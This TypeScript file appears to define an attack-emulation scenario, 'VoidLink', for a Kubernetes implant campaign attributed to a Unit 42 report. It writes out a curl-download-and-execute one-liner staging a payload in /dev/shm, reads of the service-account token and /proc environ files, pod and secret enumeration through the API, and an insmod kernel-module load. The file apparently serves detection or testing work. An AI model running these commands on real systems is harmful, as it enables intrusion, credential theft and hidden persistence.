import { denied, list, review } from './calls.ts'
import { api, type Campaign, GO, run, token, use } from './campaign.ts'

export const VOIDLINK: Campaign = {
  id: 'voidlink',
  title: 'VoidLink: modular implant with a plugin for Kubernetes',
  source: 'Unit 42, 2026',
  victim: 'spring',
  evasions: [],
  unseen: [],
  rows: ({ server, drop, namespace }) => [
    [
      '0:00',
      1,
      run('server', `/bin/bash -c 'curl -so /dev/shm/.v http://${server}/v; chmod +x /dev/shm/.v; /dev/shm/.v'`, {
        as: 'sh'
      })
    ],
    ['0:01', 1, run('sh', `/usr/bin/curl -so /dev/shm/.v http://${server}/v`, { to: [[server, 80]] })],
    ['0:04', 1, run('sh', '/dev/shm/.v', { as: 'implant', to: [[drop, 443]] })],
    ['1:00', 2, run('implant', '/usr/bin/id')],
    ['1:01', 2, run('implant', '/bin/cat /proc/1/cgroup')],
    ['1:02', 2, run('implant', '/usr/bin/hostname')],
    ['1:03', 2, run('implant', '/usr/bin/uname -a')],
    ['1:30', 3, use('implant', { reads: ['token', '/proc/1/environ', '/proc/8/environ', '/proc/11/environ'] })],
    ['2:00', 4, api(token(GO), review(namespace, 'create', 'pods'), list('pods', namespace), denied(list('secrets')))],
    ['3:00', 5, run('implant', '/sbin/insmod /dev/shm/.m.ko')]
  ]
}
